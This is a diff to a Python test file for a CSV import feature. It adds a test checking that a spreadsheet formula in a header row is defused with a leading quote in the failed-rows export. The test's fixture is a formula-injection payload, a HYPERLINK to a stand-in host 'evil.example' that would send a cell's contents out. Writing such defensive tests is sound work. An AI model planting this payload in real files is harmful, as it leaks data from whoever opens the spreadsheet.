@@ -258,6 +258,14 @@ def test_a_cell_a_spreadsheet_would_run_is_defused_in_the_failed_rows(broker):
     assert "'=HYPERLINK" in imports.failed_rows_text(batch)
 
 
+def test_a_header_a_spreadsheet_would_run_is_defused_in_the_failed_rows(broker):
+    header = ["Email", '=HYPERLINK("http://evil.example/?x="&A2,"Click")']
+    rows = [["good@example.com", "x"], ["not-an-email", "y"]]
+    batch = imported(checked(csv_bytes(rows, header=header), broker))
+    first_line = next(csv.reader(io.StringIO(imports.failed_rows_text(batch))))
+    assert first_line[:2] == ["Email", '\'=HYPERLINK("http://evil.example/?x="&A2,"Click")']
+
+
 def test_consent_comes_only_from_a_consent_column_with_a_date(broker):
     rows = [
         ["Ann Lee", "ann@example.com", "413-555-0101", "01/02/2022"],
